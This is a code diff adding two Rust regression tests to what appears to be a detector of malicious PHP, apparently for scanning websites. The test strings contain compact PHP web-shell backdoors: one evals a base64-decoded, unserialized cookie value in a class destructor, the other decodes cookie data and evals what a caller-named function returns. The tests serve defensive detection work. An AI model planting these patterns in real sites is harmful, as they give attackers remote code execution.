@@ -958,3 +958,34 @@ fn an_upload_handed_to_a_function_that_saves_it_is_a_dropper() {
                    keep($_FILES['p']['tmp_name']);";
     assert!(sinks(picture).is_empty());
 }
+
+#[test]
+fn request_data_kept_in_a_class_static_property_reaches_eval() {
+    // Regression: a class pasted in front of a site's files keeps the cookie's payload in
+    // `K::$data` in its constructor and runs it in its destructor; static properties were read
+    // as unknown values.
+    let src = "<?php class K { public static $d = NULL;\n\
+               public function __construct() { $c = $_COOKIE; K::$d = @unserialize(base64_decode($c['k'])); }\n\
+               public function __destruct() { if (is_array(K::$d)) { eval(K::$d['content']); } } }\n\
+               $o = new K();";
+    assert!(sinks(src).contains(&(Why::CodeFromInput, Danger::Critical)));
+    // Near-miss: a static property the class sets from its own settings.
+    let own = "<?php class K { public static $d = NULL; public function __construct() { K::$d = ['content' => 'return 1;']; }\n\
+               public function run() { return K::$d; } }";
+    assert!(sinks(own).is_empty());
+}
+
+#[test]
+fn eval_of_what_a_function_the_caller_names_returns_runs_what_the_caller_sends() {
+    // Regression: `function d($a) { $r = $a[1]($a[2]); eval($r); }` reached from the request
+    // through decoding helpers was read as eval of an unknown value.
+    let src = "<?php function d($a) { if (count($a) == 3) { $f = $a[1]; $r = $f($a[2]); eval($r); die(); } }\n\
+               function e($s, $sep) { $s = explode($sep, $s); d($s); }\n\
+               foreach ($_COOKIE as $k => $v) { e(pack('H*', $v) ^ $k, '#'); }";
+    assert!(
+        sinks(src).iter().any(|(w, d)| *d == Danger::Critical && matches!(w, Why::EvalOfDecoded | Why::CodeFromInput))
+    );
+    // Near-miss: a callback the caller names, its result printed.
+    let printed = "<?php function show($f, $x) { echo $f($x); } show('strtoupper', 'a');";
+    assert!(sinks(printed).is_empty());
+}
